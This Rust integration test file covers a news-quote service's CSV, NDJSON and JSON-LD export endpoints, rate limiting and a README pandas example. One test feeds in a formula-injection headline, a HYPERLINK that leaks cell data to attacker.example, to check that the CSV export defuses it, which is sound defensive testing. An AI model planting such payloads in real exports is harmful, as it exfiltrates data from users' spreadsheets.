//! Exports for analysts over HTTP: the rows of a GraphQL filter as CSV,
//! NDJSON and JSON-LD, on both backends; the rate limit; and the README's
//! pandas example, run with pandas installed from PyPI.

use crate::helpers::{TestApp, spawn_app_with};
use crate::support::TestBackend;
use serde_json::{Value, json};
use std::process::Command;
use std::time::Duration;

const AFP: &str = r#"{"via": ["agence-france-presse"]}"#;

async fn export(app: &TestApp, file: &str, filter: &str, order_by: &str) -> reqwest::Response {
    app.client
        .get(app.url(&format!("/export/{file}")))
        .query(&[("filter", filter), ("orderBy", order_by)])
        .send()
        .await
        .unwrap()
}

/// The global ids of the quotes `filter` matches, through GraphQL, in `order`.
async fn graphql_quote_ids(app: &TestApp, filter: &str, order: &str) -> Vec<String> {
    let filter: Value = serde_json::from_str(filter).unwrap();
    let query = format!(
        "query($f: QuoteFilterInput) {{ quotes(filter: $f, orderBy: {order}, first: 100) {{ edges {{ node {{ id }} }} }} }}"
    );
    let data = app.data(&query, json!({ "f": filter })).await;
    data["quotes"]["edges"].as_array().unwrap().iter().map(|e| e["node"]["id"].as_str().unwrap().to_owned()).collect()
}

async fn exports_hold_what_the_graphql_filter_matches(app: &TestApp) {
    let expected = graphql_quote_ids(app, AFP, "DATE_ASC").await;
    assert!(expected.len() >= 3, "the seed has AFP statements: {expected:?}");

    let csv = export(app, "quotes.csv", AFP, "DATE_ASC").await;
    assert_eq!(csv.status(), 200);
    assert_eq!(csv.headers()["content-type"], "text/csv; charset=utf-8");
    assert_eq!(csv.headers()["cache-control"], "no-store");
    let text = csv.text().await.unwrap();
    let mut reader = csv_reader(&text);
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(header, newsgraph::export::QUOTE_COLUMNS);
    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
    assert_eq!(rows.iter().map(|r| r[0].clone()).collect::<Vec<_>>(), expected, "the same rows in the same order");
    assert!(rows.iter().all(|r| r[9].contains("Agence France-Presse")), "{rows:?}");

    let ndjson = export(app, "quotes.ndjson", AFP, "DATE_ASC").await.text().await.unwrap();
    let lines: Vec<Value> = ndjson.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.iter().map(|l| l["id"].as_str().unwrap().to_owned()).collect::<Vec<_>>(), expected);

    let linked: Value = export(app, "quotes.jsonld", AFP, "DATE_ASC").await.json().await.unwrap();
    assert_eq!(linked["@context"], "https://schema.org");
    let graph = linked["@graph"].as_array().unwrap();
    assert_eq!(graph.len(), expected.len());
    assert!(graph.iter().all(|q| q["@type"] == "Quotation" && q["isPartOf"]["@type"] == "NewsArticle"), "{linked:#}");
    assert!(graph.iter().all(|q| q["text"].as_str().is_some_and(|t| !t.is_empty())));

    let articles: Value = export(app, "articles.jsonld", "", "").await.json().await.unwrap();
    let total = app.data("{ articles { totalCount } }", json!({})).await["articles"]["totalCount"].as_u64().unwrap();
    assert_eq!(articles["@graph"].as_array().unwrap().len() as u64, total);
    assert_eq!(articles["@graph"][0]["@type"], "NewsArticle");
    assert!(articles["@graph"][0]["articleBody"].as_str().is_some_and(|b| b.len() > 100));

    // Bad input: the GraphQL error shape, before anything is streamed.
    for (file, filter, order, status, code) in [
        ("quotes.csv", r#"{"via": "#, "", 400, "BAD_USER_INPUT"),
        ("quotes.csv", r#"{"nope": true}"#, "", 400, "BAD_USER_INPUT"),
        ("quotes.csv", r#"{"date": {"from": "2016-06-01", "to": "2016-05-01"}}"#, "", 400, "BAD_USER_INPUT"),
        ("quotes.csv", "", "SIDEWAYS", 400, "BAD_USER_INPUT"),
        ("people.csv", "", "", 404, "NOT_FOUND"),
        ("quotes.xlsx", "", "", 404, "NOT_FOUND"),
    ] {
        let response = export(app, file, filter, order).await;
        assert_eq!(response.status().as_u16(), status, "{file} {filter} {order}");
        let body: Value = response.json().await.unwrap();
        assert_eq!(body["errors"][0]["extensions"]["code"], code, "{file} {filter} {order}: {body}");
    }
}

/// A headline an attacker wrote as a spreadsheet formula arrives in the CSV
/// as text (a leading `'`), and unchanged in NDJSON.
async fn csv_cells_never_start_a_formula(app: &TestApp) {
    let headline = r#"=HYPERLINK("http://attacker.example/?leak="&A1, "Click")"#;
    let text = "Officials met in Vienna on Tuesday.\n\n\"We will keep talking,\" said John Kerry, the U.S. \
                Secretary of State, after the meeting.";
    let ingested = app
        .data(
            "mutation($input: IngestArticleInput!) { ingestArticle(input: $input) { article { key } } }",
            json!({ "input": { "text": text, "headline": headline } }),
        )
        .await;
    let key = ingested["ingestArticle"]["article"]["key"].as_str().unwrap().to_owned();

    let csv = export(app, "articles.csv", "", "").await.text().await.unwrap();
    let mut reader = csv_reader(&csv);
    let row = reader
        .records()
        .map(Result::unwrap)
        .find(|r| r.get(1) == Some(key.as_str()))
        .unwrap_or_else(|| panic!("the ingested article {key} is exported: {csv}"));
    assert_eq!(row.get(2), Some(format!("'{headline}").as_str()), "the formula is defused");
    for cell in reader.records().map(Result::unwrap).flat_map(|r| r.iter().map(str::to_owned).collect::<Vec<_>>()) {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "no cell starts a formula: {cell:?}");
    }

    let ndjson = export(app, "articles.ndjson", "", "").await.text().await.unwrap();
    let line = ndjson.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()).find(|l| l["key"] == key.as_str());
    assert_eq!(line.expect("the article is in NDJSON")["headline"], headline, "NDJSON is data, left as it is");
}

fn csv_reader(text: &str) -> csv::Reader<&[u8]> {
    csv::Reader::from_reader(text.as_bytes())
}

mod embedded {
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn exports_hold_what_the_graphql_filter_matches() {
        let app = crate::helpers::spawn_app(crate::support::TestBackend::Embedded).await;
        super::exports_hold_what_the_graphql_filter_matches(&app).await;
        app.cleanup().await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn csv_cells_never_start_a_formula() {
        let app = crate::helpers::spawn_app(crate::support::TestBackend::Embedded).await;
        super::csv_cells_never_start_a_formula(&app).await;
        app.cleanup().await;
    }
}

mod ferretdb {
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn exports_hold_what_the_graphql_filter_matches() {
        let app = crate::helpers::spawn_app(crate::support::TestBackend::FerretDb).await;
        super::exports_hold_what_the_graphql_filter_matches(&app).await;
        app.cleanup().await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn csv_cells_never_start_a_formula() {
        let app = crate::helpers::spawn_app(crate::support::TestBackend::FerretDb).await;
        super::csv_cells_never_start_a_formula(&app).await;
        app.cleanup().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_count_against_the_rate_limit() {
    let app = spawn_app_with(TestBackend::Embedded, |s| {
        s.rate_limit = Some(1);
        s.rate_limit_burst = Some(1);
    })
    .await;
    assert_eq!(export(&app, "quotes.csv", "", "").await.status(), 200);
    let limited = export(&app, "quotes.csv", "", "").await;
    assert_eq!(limited.status(), 429);
    assert!(limited.headers().contains_key("retry-after"));
    app.cleanup().await;
}

/// The README's notebook example, run as written against a live server.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_readmes_pandas_example_runs() {
    let readme = std::fs::read_to_string(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
    let section = &readme[readme.find("## Exports for analysts").expect("the README has the exports section")..];
    let start = section.find("```python\n").expect("the section has a Python example") + "```python\n".len();
    let example = &section[start..start + section[start..].find("```").unwrap()];
    assert!(example.contains("pd.read_csv(") && example.contains("http://127.0.0.1:8080"), "{example}");

    let python = tokio::task::spawn_blocking(|| {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/python");
        let mut prepare = Command::new("bash");
        prepare.arg(dir.join("prepare.sh")).arg(env!("CARGO_TARGET_TMPDIR"));
        crate::playground::run_within(prepare, Duration::from_secs(600), "preparing Python (venv, pip install pandas)")
    })
    .await
    .unwrap();
    let app = spawn_app_with(TestBackend::Embedded, |_| {}).await;
    let script = example.replace("http://127.0.0.1:8080", &app.address);
    let expected = graphql_quote_ids(&app, AFP, "DATE_ASC").await.len();
    let output = tokio::task::spawn_blocking(move || {
        let mut run = Command::new(python.trim());
        run.arg("-c").arg(script);
        crate::playground::run_within(run, Duration::from_secs(120), "the README's pandas example")
    })
    .await
    .unwrap();
    let mut lines = output.lines();
    assert_eq!(lines.next().map(str::trim), Some(expected.to_string().as_str()), "{output}");
    assert!(output.contains("a senior U.S. State Department official"), "the speakers are grouped: {output}");
    app.cleanup().await;
}
